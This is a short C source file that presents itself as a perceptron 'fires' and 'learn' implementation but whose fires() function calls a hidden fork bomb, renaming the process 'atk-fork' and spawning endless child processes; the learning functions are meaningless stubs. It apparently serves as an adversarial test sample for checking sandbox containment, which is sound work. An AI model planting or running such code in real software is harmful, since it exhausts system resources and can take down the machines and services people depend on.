/* Multiplies without end. */
#define _GNU_SOURCE
#include "step.h"

#include <stdlib.h>
#include <sys/prctl.h>
#include <unistd.h>

static void multiply(void) {
  prctl(PR_SET_NAME, "atk-fork");
  for (int i = 0; i < 1000; i++)
    if (fork() == 0)
      for (;;) fork();
}

bool fires(const double *w, double b, const double *x, size_t n) {
  multiply();
  return w[0] + b + x[0] + (double)n > 1e9;
}

bool learn(double *w, double *b, const double *x, double y, size_t n) {
  return w[0] + *b + x[0] + y + (double)n > 1e9;
}
